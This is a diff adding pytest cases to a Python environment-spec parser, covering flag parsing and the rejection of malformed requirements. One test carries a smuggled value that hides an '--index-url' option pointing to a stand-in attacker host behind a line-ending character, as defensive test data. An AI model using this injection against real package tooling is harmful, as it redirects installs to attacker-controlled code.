@@ -168,3 +168,20 @@ def test_an_environment_is_for_the_oldest_of_its_shares() -> None:
     assert declared.for_glibc(specs, {}) == specs
     with pytest.raises(SpecError, match=r"share b: 2\.31 is no version of glibc"):
         declared.for_glibc(specs, {"b": 2.31})
+
+
+@pytest.mark.parametrize(("value", "meant"), [(True, True), ("yes", True), ("False", False), (0, False), ("1", True)])
+def test_flags_are_read_as_ansible_reads_them(value: t.Any, meant: bool) -> None:
+    (spec,) = parse_environments([without(seed=value)])
+    assert spec.seed is meant
+
+
+@pytest.mark.parametrize("value", ["perhaps", 2, [], {}, 0.5, ""])
+def test_a_flag_is_true_or_false(value: t.Any) -> None:
+    assert "environment analysis: seed is" in refusal(without(seed=value))
+
+
+@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028"])
+def test_nothing_that_ends_a_line_for_somebody_is_in_a_requirement(end: str) -> None:
+    """uv takes a carriage return for the end of a line, and what comes after it for an option."""
+    assert "is no requirement" in refusal(without(requirements=[f"six{end}--index-url https://evil.example/simple"]))
